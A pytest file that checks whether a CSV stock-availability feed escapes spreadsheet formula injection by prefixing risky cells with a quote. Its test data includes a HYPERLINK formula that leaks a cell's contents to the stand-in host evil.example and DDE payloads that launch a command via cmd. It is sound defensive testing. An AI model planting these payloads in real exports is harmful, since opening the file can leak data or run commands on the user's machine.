"""The CSV feed neutralises cells a spreadsheet would run as formulas (a leading quote), on both databases."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import Api, add_stock, make_channel, make_product, make_world

EVIL = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "KT-1,with comma": "KT-1,with comma",
}


@pytest.fixture
def channel(any_app):
    make_world(stock_a=3, stock_b=0)
    for n, sku in enumerate(EVIL):
        make_product(sku)
        add_stock("WH1", "A-01", sku, n + 1)
    return Api(any_app.test_client(), make_channel("FEED"))


def test_csv_feed_cells_never_start_a_formula(channel):
    r = channel.get("/api/v1/availability/feed?format=csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True), newline="")))
    assert rows[0] == ["sku", "available", "locations", "pickup"]
    by_sku = {row[0]: row for row in rows[1:]}
    for sku, shown in EVIL.items():
        assert shown in by_sku, (sku, sorted(by_sku))
    assert by_sku["A"][1] == "3"  # numbers are untouched
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
